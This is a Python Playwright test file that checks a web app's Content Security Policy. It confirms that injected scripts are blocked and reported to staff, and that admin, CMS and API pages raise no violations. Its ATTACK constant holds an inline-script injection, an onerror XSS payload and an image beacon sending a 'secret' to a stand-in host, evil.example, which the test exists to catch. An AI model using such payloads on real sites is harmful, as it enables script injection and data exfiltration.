"""The policy in a real browser: it stops what it should, is told of, and stops nothing of ours."""

import pytest
from playwright.sync_api import expect

from apps.core.tests.fakes_resilience import wait_until
from tests.browser.driving import TO_THE_ANSWER_MS, Visit

pytestmark = pytest.mark.timeout(180)

NAME, PASSWORD = "warden", "moss-and-lichen-42"
MAKE_ACCOUNT = (
    "from apps.users.tests.factories import UserFactory;"
    f"UserFactory(username={NAME!r}, email={NAME!r} + '@example.org', password={PASSWORD!r}, "
    "is_staff=True, is_superuser=True)"
)
ATTACK = """
const script = document.createElement("script");
script.textContent = "window.taken = true";
document.body.append(script);
const picture = new Image();
picture.src = "https://evil.example/collect?secret=7";
document.body.append(picture);
const note = document.createElement("p");
note.innerHTML = "<img src='data:,' onerror='window.taken = true'>";
document.body.append(note);
"""
STOPPED = {
    ("script-src-elem", "inline", "/", "2"),
    ("script-src-attr", "inline", "/", "2"),
    ("img-src", "https://evil.example", "/", "2"),
}
ROOMS = {
    "/admin/users/user/": "#result_list",
    "/admin/users/user/add/": "#id_username",
    "/cms/": "main",
    "/cms/documents/multiple/add/": "main",
    "/api/docs/": ".swagger-ui .opblock-summary",
    "/api/redoc/": "#redoc h1",
}


@pytest.fixture(scope="module")
def _warden(product):
    product.manage("shell", "-v0", "-c", MAKE_ACCOUNT)


@pytest.fixture
def visit(browser, product, _warden):
    someone = Visit.start(browser, product.servers[0].url)
    yield someone
    someone.context.close()


def sign_in(visit):
    visit.page.goto(f"{visit.url}/admin/login/?next=/admin/")
    visit.page.fill("#id_username", NAME)
    visit.page.fill("#id_password", PASSWORD)
    visit.page.locator("[type=submit]").click()
    expect(visit.page.locator("#user-tools")).to_be_visible()


def reported(page, url):
    page.goto(f"{url}/admin/core/cspviolation/")
    rows = page.locator("#result_list tbody tr")
    return {tuple(row.locator("th, td").all_inner_texts()[1:5]) for row in rows.all()}


def test_what_is_stopped_is_reported_by_the_browser_and_read_by_staff(visit):
    for number in range(2):  # of one page a browser tells the same once
        visit.page.goto(f"{visit.url}/?secret={number}#secret")
        visit.page.evaluate(ATTACK)
        visit.page.wait_for_function("window.refused.length >= 3")
        assert visit.page.evaluate("window.taken") is None

    sign_in(visit)
    wait_until(lambda: reported(visit.page, visit.url) >= STOPPED, within_s=20)
    assert "secret" not in visit.page.locator("#result_list").inner_text()


def test_no_room_of_the_house_breaks_its_own_policy(visit):
    sign_in(visit)
    visit.require_clean()
    for path, sign in ROOMS.items():
        visit.page.goto(f"{visit.url}{path}")
        expect(visit.page.locator(sign).first).to_be_visible(timeout=TO_THE_ANSWER_MS)
        visit.page.wait_for_load_state("networkidle")
        assert visit.page.evaluate("window.refused") == [], path
        visit.require_clean()


def test_editing_a_page_breaks_no_policy_and_its_attributes_run_nothing(visit):
    sign_in(visit)
    visit.page.goto(f"{visit.url}/blog/")
    visit.require_clean()
    visit.page.goto(f"{visit.url}/cms/pages/")
    visit.page.goto(f"{visit.url}/cms/reports/aging-pages/")
    edit = visit.page.locator("a[href*='/edit/']").first.get_attribute("href")
    visit.page.goto(f"{visit.url}{edit}")
    expect(visit.page.locator("#id_title")).to_be_visible(timeout=TO_THE_ANSWER_MS)
    visit.page.wait_for_load_state("networkidle")
    visit.require_clean()

    visit.page.evaluate(ATTACK)
    visit.page.wait_for_function("window.refused.some(each => each.startsWith('script-src-attr'))")
